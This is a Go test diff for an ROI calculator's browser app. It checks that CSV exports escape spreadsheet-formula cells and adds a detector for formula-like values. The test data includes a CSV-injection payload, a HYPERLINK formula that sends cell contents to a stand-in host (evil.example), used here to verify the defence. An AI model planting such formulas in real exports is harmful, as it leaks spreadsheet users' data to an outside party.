@@ -9,6 +9,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -293,6 +294,82 @@ func TestExportImport(t *testing.T) {
 		t.Errorf("a refused import changed localStorage[%q]:\n got %s\nwant %s", storageKey, got, before)
 	}
 	p.checkFigures(mustCalculate(t, exported))
+}
+
+// TestExportCSVNeutralisesFormulas: a shared scenario whose name is a
+// spreadsheet formula and whose cost labels start with @ and +, opened from
+// a link made by roi.ShareLink and saved, exports a CSV in which those cells
+// carry OWASP's single quote and no cell reads as a formula; the file is
+// still exactly what roi.WriteCSV (roi report -format csv) writes.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	srv := startBrowserServer(t, browserDist(t))
+	p := newBrowserPage(t, srv.URL)
+	p.open("/")
+	p.waitSaved("the e-commerce preset saved", `d.scenarios.length === 1`)
+	downloads := t.TempDir()
+	reachDownloads(t, p, downloads)
+
+	const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
+	sc := mustPreset(t, "saas").Clone()
+	sc.Name = hyperlink
+	sc.Costs[0].Label = "@SUM(A1:A9)"
+	sc.Costs[1].Label = "+47 123"
+	p.do("leaving the app", chromedp.Navigate("about:blank"))
+	p.do("opening the share link", chromedp.Navigate(roi.ShareLink(srv.URL+"/", sc)))
+	p.waitReady()
+	p.waitValue("f-name", hyperlink)
+	p.click("#save-shared")
+	p.waitSaved("the shared scenario saved", `d.scenarios.length === 2`)
+	cur := p.currentScenario()
+	if cur.Name != hyperlink {
+		t.Fatalf("the saved scenario is named %q; want %q", cur.Name, hyperlink)
+	}
+
+	_, data := reachDownload(t, p, downloads, "#export-csv")
+	var want bytes.Buffer
+	if err := roi.WriteCSV(&want, mustCalculate(t, cur)); err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(data, want.Bytes()) {
+		t.Errorf("exported CSV differs from roi.WriteCSV (roi report -format csv):\n got %q\nwant %q", data, want.Bytes())
+	}
+	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatalf("the exported CSV does not read: %v\n%s", err, data)
+	}
+	cells := map[string]bool{}
+	for _, row := range rows {
+		for _, c := range row {
+			cells[c] = true
+			if formulaCell(c) {
+				t.Errorf("exported cell %q (row %q) starts a formula", c, row)
+			}
+		}
+	}
+	for _, c := range []string{"'" + hyperlink, "'@SUM(A1:A9).cost", "'+47 123.cost"} {
+		if !cells[c] {
+			t.Errorf("the exported CSV has no cell %q:\n%s", c, data)
+		}
+	}
+}
+
+// formulaCell reports whether a spreadsheet could read the CSV cell c as a
+// formula: it starts with a tab or CR, or with = + - @ (after blanks), and
+// is not a plain decimal number such as -12.50.
+func formulaCell(c string) bool {
+	if strings.HasPrefix(c, "\t") || strings.HasPrefix(c, "\r") {
+		return true
+	}
+	rest := strings.TrimLeft(c, " \t\r\n")
+	if rest == "" || !strings.ContainsRune("=+-@", rune(rest[0])) {
+		return false
+	}
+	if rest != c {
+		return true
+	}
+	whole, frac, point := strings.Cut(c[1:], ".")
+	digits := func(x string) bool { return x != "" && strings.Trim(x, "0123456789") == "" }
+	return c[0] == '=' || c[0] == '@' || !digits(whole) || point && !digits(frac)
 }
 
 // TestPrintReport: /report shows the current scenario's name, the date, the
